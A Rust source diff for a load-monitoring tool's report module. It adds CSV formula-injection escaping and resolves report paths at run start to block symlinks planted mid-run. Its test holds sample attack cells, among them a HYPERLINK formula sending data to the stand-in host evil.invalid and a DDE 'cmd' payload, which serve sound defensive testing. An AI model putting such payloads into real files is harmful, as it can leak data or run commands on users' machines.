@@ -2,12 +2,12 @@
 //! rendering (byte for byte for every line the seed had) and JSON, CSV and HTML renderings.
 
 use std::fmt;
-use std::io::Write;
 use std::path::{Path, PathBuf};
 
 use serde::{Deserialize, Serialize};
 
 use crate::error::{Error, Result};
+use crate::out_file::OutFile;
 use crate::series::{ClientSeries, TotalSample};
 
 /// Bytes in one MB as the protocol counts them (MiB).
@@ -77,7 +77,7 @@ pub struct ClientReport {
     /// CPU of its own threads, so clients sharing a process each report their own share.
     pub cpu_avg_pct: f64,
     /// Average of the `send_stats` %MEM values: the RSS of the client's whole process (shared
-    /// by [`ClientReport::process_clients`] clients) over total RAM.
+    /// by up to [`ClientReport::process_clients`] clients) over total RAM.
     pub mem_avg_pct: f64,
     /// `file_roll` messages received.
     pub files_written: u64,
@@ -125,9 +125,11 @@ pub struct ClientReport {
     /// The latest resident memory from `proc_stats`, bytes.
     #[serde(default)]
     pub rss_last_bytes: Option<u64>,
-    /// How many loadmon clients shared the client's process (from `proc_stats`): its memory
-    /// figures (`mem_avg_pct`, `rss_*`) are that whole process's. 1 for a client alone in its
-    /// process; `None` for a client that did not say (a seed client).
+    /// The most loadmon clients that shared the client's process at once during its run
+    /// (itself included; the highest `proc_stats` said, and a loadmon client counts every
+    /// client that ran beside it, between its samples too): its memory figures
+    /// (`mem_avg_pct`, `rss_*`) are that whole process's. 1 for a client alone in its process
+    /// the whole run; `None` for a client that did not say (a seed client).
     #[serde(default)]
     pub process_clients: Option<u32>,
 }
@@ -402,7 +404,10 @@ impl Report {
 
     #[cfg(feature = "reports")]
     /// The clients as CSV: a header row with the JSON report's field names, then one row per
-    /// client (an absent value is an empty cell).
+    /// client (an absent value is an empty cell). A text cell that a spreadsheet would take
+    /// for a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return: a peer's
+    /// `error:=HYPERLINK(…)`) gets a leading `'`, as OWASP recommends; numbers are left as
+    /// they are.
     ///
     /// # Examples
     /// ```
@@ -418,7 +423,9 @@ impl Report {
         let mut result = if self.clients.is_empty() {
             w.write_record(CSV_HEADER)
         } else {
-            self.clients.iter().try_for_each(|c| w.serialize(c))
+            self.clients
+                .iter()
+                .try_for_each(|c| w.serialize(csv_safe(c)))
         };
         let bytes = match w.into_inner() {
             Ok(b) => b,
@@ -435,8 +442,12 @@ impl Report {
     }
 
     #[cfg(feature = "reports")]
-    /// A self-contained HTML page: the report table and inline SVG charts of each client's
-    /// throughput and CPU over time (from [`Report::series`]).
+    /// A self-contained HTML page (nothing loaded from elsewhere). Up to 50 clients: the
+    /// report table and inline SVG charts of each client's throughput and CPU over time (from
+    /// [`Report::series`]), no script. Above: a summary and fleet charts drawn statically, and
+    /// the per-client table a page at a time with a client's charts drawn when it is opened
+    /// (`#client-<id>`) by an inline script, so that the page stays small (under 4 MB at
+    /// 10,000 clients).
     pub fn to_html(&self) -> String {
         crate::html_report::render(self)
     }
@@ -466,6 +477,41 @@ impl fmt::Display for Report {
     }
 }
 
+/// `c` with every text cell made safe for a spreadsheet (see [`Report::to_csv`]).
+#[cfg(feature = "reports")]
+fn csv_safe(c: &ClientReport) -> std::borrow::Cow<'_, ClientReport> {
+    let risky = |s: &Option<String>| s.as_deref().is_some_and(is_formula);
+    let texts = [
+        &c.reason,
+        &c.peer,
+        &c.protocol_version,
+        &c.start_time,
+        &c.end_time,
+    ];
+    if !texts.into_iter().any(risky) {
+        return std::borrow::Cow::Borrowed(c);
+    }
+    let mut c = c.clone();
+    for s in [
+        &mut c.reason,
+        &mut c.peer,
+        &mut c.protocol_version,
+        &mut c.start_time,
+        &mut c.end_time,
+    ] {
+        if let Some(t) = s.as_mut().filter(|t| is_formula(t)) {
+            t.insert(0, '\'');
+        }
+    }
+    std::borrow::Cow::Owned(c)
+}
+
+/// Whether a spreadsheet would read a text cell as a formula (OWASP's CSV injection list).
+#[cfg(feature = "reports")]
+fn is_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
 /// The seed printed times as `%Y-%m-%d_%H:%M:%S`; the JSON keeps RFC 3339.
 fn seed_time(rfc3339: &str) -> String {
     chrono::DateTime::parse_from_rfc3339(rfc3339)
@@ -476,7 +522,8 @@ fn seed_time(rfc3339: &str) -> String {
 /// The reason of a client that was running when the server was stopped.
 pub const STOPPED_REASON: &str = "server stopped";
 
-/// The report files of a run (each optional): checked before the run, written after it.
+/// The report files of a run (each optional): resolved when the run starts (a relative path
+/// against the working directory of that moment; see [`ReportFiles::open`]), written after it.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct ReportFiles {
     /// The JSON report.
@@ -504,46 +551,80 @@ impl ReportFiles {
     /// # Errors
     /// [`Error::Config`] naming the report and the path.
     pub fn check(&self) -> Result<()> {
-        for (kind, path) in self.each() {
-            if kind != "JSON" && !cfg!(feature = "reports") {
-                return Err(Error::Config(format!(
-                    "{kind} report {}: loadmon was built without the `reports` feature",
-                    path.display()
-                )));
-            }
-            check_report_path(path)
-                .map_err(|why| Error::Config(format!("{kind} report {}: {why}", path.display())))?;
-        }
-        Ok(())
+        self.open().map(drop)
     }
 
-    /// Writes every report file (each is attempted even if another failed); one
-    /// `(kind, path, result)` per file.
+    /// Resolves every path now (see [`OutFile::open`]): a server does this when it starts,
+    /// so that the files are written where the paths pointed then, and never through a link
+    /// planted during the run.
+    ///
+    /// # Errors
+    /// [`Error::Config`] naming the report and the path.
+    pub fn open(&self) -> Result<OpenReportFiles> {
+        let files = self
+            .each()
+            .map(|(kind, path)| Ok((kind, path.to_path_buf(), ReportFiles::one(kind, path)?)))
+            .collect::<Result<_>>()?;
+        Ok(OpenReportFiles { files })
+    }
+
+    /// Resolves every path now and writes every report file (each is attempted even if
+    /// another failed); one `(kind, path, result)` per file. See [`ReportFiles::open`].
     pub fn write(&self, report: &Report) -> Vec<(&'static str, PathBuf, Result<()>)> {
         self.each()
             .map(|(kind, path)| {
-                let r = match kind {
-                    "JSON" => report.write_json(path),
-                    #[cfg(feature = "reports")]
-                    "CSV" => report.write_csv(path),
-                    #[cfg(feature = "reports")]
-                    _ => report.write_html(path),
-                    #[cfg(not(feature = "reports"))]
-                    _ => Err(Error::Config(format!(
-                        "{kind} report: loadmon was built without the `reports` feature"
-                    ))),
-                };
+                let r = ReportFiles::one(kind, path)
+                    .and_then(|file| file.write(render(kind, report)?.as_bytes()));
                 (kind, path.to_path_buf(), r)
+            })
+            .collect()
+    }
+
+    fn one(kind: &'static str, path: &Path) -> Result<OutFile> {
+        if kind != "JSON" && !cfg!(feature = "reports") {
+            return Err(Error::Config(format!(
+                "{kind} report {}: loadmon was built without the `reports` feature",
+                path.display()
+            )));
+        }
+        OutFile::resolve(path)
+            .map_err(|why| Error::Config(format!("{kind} report {}: {why}", path.display())))
+    }
+}
+
+/// The report files of a run, resolved at its start ([`ReportFiles::open`]).
+#[derive(Debug)]
+pub struct OpenReportFiles {
+    files: Vec<(&'static str, PathBuf, OutFile)>,
+}
+
+impl OpenReportFiles {
+    /// Writes every report file (each is attempted even if another failed); one
+    /// `(kind, path, result)` per file.
+    pub fn write(&self, report: &Report) -> Vec<(&'static str, PathBuf, Result<()>)> {
+        self.files
+            .iter()
+            .map(|(kind, path, file)| {
+                let r = render(kind, report).and_then(|text| file.write(text.as_bytes()));
+                (*kind, path.clone(), r)
             })
             .collect()
     }
 }
 
-/// A unique name for a temporary file beside `name` (process id and a counter).
-fn temp_name(name: &std::ffi::OsStr) -> String {
-    static COUNTER: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
-    let n = COUNTER.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
-    format!(".{}.tmp-{}-{n}", name.to_string_lossy(), std::process::id())
+/// The report file of `kind` (JSON, CSV, HTML).
+fn render(kind: &str, report: &Report) -> Result<String> {
+    match kind {
+        "JSON" => Ok(report.to_json()),
+        #[cfg(feature = "reports")]
+        "CSV" => Ok(report.to_csv()),
+        #[cfg(feature = "reports")]
+        _ => Ok(report.to_html()),
+        #[cfg(not(feature = "reports"))]
+        _ => Err(Error::Config(format!(
+            "{kind} report: loadmon was built without the `reports` feature"
+        ))),
+    }
 }
 
 /// Checks that a report can be written to `path`: it names a file (not a directory), it is
@@ -553,113 +634,20 @@ fn temp_name(name: &std::ffi::OsStr) -> String {
 /// # Errors
 /// Why not, as text.
 pub fn check_report_path(path: &Path) -> std::result::Result<(), String> {
-    if path.file_name().is_none() || path.as_os_str().to_string_lossy().ends_with('/') {
-        return Err("not a file path".into());
-    }
-    match std::fs::symlink_metadata(path) {
-        Ok(_) => match std::fs::metadata(path) {
-            Ok(m) if m.is_file() => {}
-            Ok(_) => {
-                return Err(
-                    "exists and is not a regular file (reports replace only regular files)".into(),
-                )
-            }
-            Err(e) => return Err(format!("a symlink to nothing usable: {e}")),
-        },
-        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
-        Err(e) => return Err(e.to_string()),
-    }
-    let target = resolve(path);
-    let mut dir = parent_dir(&target);
-    // The nearest existing ancestor must be a writable directory.
-    while !dir.exists() {
-        match dir.parent() {
-            Some(p) if !p.as_os_str().is_empty() => dir = p.to_path_buf(),
-            _ => {
-                dir = PathBuf::from(".");
-                break;
-            }
-        }
-    }
-    if !dir.is_dir() {
-        return Err(format!("{} is not a directory", dir.display()));
-    }
-    let probe = dir.join(temp_name(std::ffi::OsStr::new("loadmon-probe")));
-    match std::fs::OpenOptions::new()
-        .write(true)
-        .create_new(true)
-        .open(&probe)
-    {
-        Ok(_) => {
-            let _ = std::fs::remove_file(&probe);
-            Ok(())
-        }
-        Err(e) => Err(format!("cannot write in {}: {e}", dir.display())),
-    }
-}
-
-/// The directory `path` is in (`.` for a bare name).
-fn parent_dir(path: &Path) -> PathBuf {
-    match path.parent() {
-        Some(d) if !d.as_os_str().is_empty() => d.to_path_buf(),
-        _ => PathBuf::from("."),
-    }
-}
-
-/// `path`, or what it points to if it is a symlink (so the link is kept and its target
-/// replaced).
-fn resolve(path: &Path) -> PathBuf {
-    match std::fs::symlink_metadata(path) {
-        Ok(m) if m.file_type().is_symlink() => {
-            std::fs::canonicalize(path).unwrap_or_else(|_| path.to_path_buf())
-        }
-        _ => path.to_path_buf(),
-    }
+    OutFile::resolve(path).map(drop)
 }
 
 /// Writes `bytes` to `path` so that the file is either the old one or the whole new one
 /// (temporary file in the same directory, fsync, rename). Only a regular file is replaced: a
 /// symlink is written through (the link stays), and a directory, device, FIFO or socket is
-/// an error, never renamed over.
+/// an error, never renamed over. The path is resolved now: a file to be written at the end of
+/// a run is better [opened](OutFile::open) at its start.
 ///
 /// # Errors
-/// [`Error::File`] naming the path that failed.
+/// [`Error::Config`] if the path cannot be written (see [`check_report_path`]);
+/// [`Error::File`] naming the path if writing failed.
 pub fn write_atomic(path: &Path, bytes: &[u8]) -> Result<()> {
-    let target = resolve(path);
-    match std::fs::metadata(&target) {
-        Ok(m) if !m.is_file() => {
-            return Err(Error::file(
-                "replace",
-                path,
-                std::io::Error::new(
-                    std::io::ErrorKind::InvalidInput,
-                    "not a regular file (reports replace only regular files)",
-                ),
-            ))
-        }
-        _ => {}
-    }
-    let dir = parent_dir(&target);
-    std::fs::create_dir_all(&dir).map_err(|e| Error::file("create the directory of", path, e))?;
-    let file_name = target
-        .file_name()
-        .ok_or_else(|| Error::Config(format!("{} is not a file path", path.display())))?;
-    let tmp = dir.join(temp_name(file_name));
-    let result = (|| -> Result<()> {
-        let mut f = std::fs::OpenOptions::new()
-            .write(true)
-            .create_new(true)
-            .open(&tmp)
-            .map_err(|e| Error::file("create", &tmp, e))?;
-        f.write_all(bytes)
-            .map_err(|e| Error::file("write", &tmp, e))?;
-        f.sync_all().map_err(|e| Error::file("fsync", &tmp, e))?;
-        std::fs::rename(&tmp, &target).map_err(|e| Error::file("rename to", path, e))
-    })();
-    if result.is_err() {
-        let _ = std::fs::remove_file(&tmp);
-    }
-    result
+    OutFile::open(path)?.write(bytes)
 }
 
 #[cfg(test)]
@@ -744,6 +732,49 @@ mod tests {
         r.clients.clear();
         assert_eq!(r.to_csv().lines().count(), 1);
         assert!(r.to_csv().starts_with("id,status,"));
+    }
+
+    #[test]
+    fn csv_text_cells_never_start_a_formula_and_numbers_stay_numbers() {
+        let mut r = report();
+        let formulas = [
+            "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1,1)",
+            "\t=1",
+            "\r=1",
+        ];
+        r.clients = formulas
+            .iter()
+            .enumerate()
+            .map(|(i, f)| {
+                let mut c = client(100 + i as u32, Status::Failed);
+                c.reason = Some((*f).to_string());
+                c.protocol_version = Some("=1+1".into());
+                c.cpu_avg_pct = -1.5;
+                c
+            })
+            .collect();
+        r.clients.push(client(200, Status::Pass));
+        r.clients[6].reason = Some("no heartbeat for 15.0 s".into());
+        let text = r.to_csv();
+        let mut rd = csv::Reader::from_reader(text.as_bytes());
+        let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
+        for (row, f) in rows.iter().zip(formulas) {
+            assert_eq!(&row[12], format!("'{f}"), "{text}");
+            assert_eq!(&row[14], "'=1+1");
+            assert_eq!(&row[3], "-1.5", "a number stays a number");
+        }
+        assert_eq!(&rows[6][12], "no heartbeat for 15.0 s");
+        assert_eq!(&rows[6][3], "3.0");
+        // The JSON keeps the peer's text exact.
+        assert_eq!(
+            Report::from_json(&r.to_json()).unwrap().clients[0]
+                .reason
+                .as_deref(),
+            Some(formulas[0])
+        );
     }
 
     #[test]
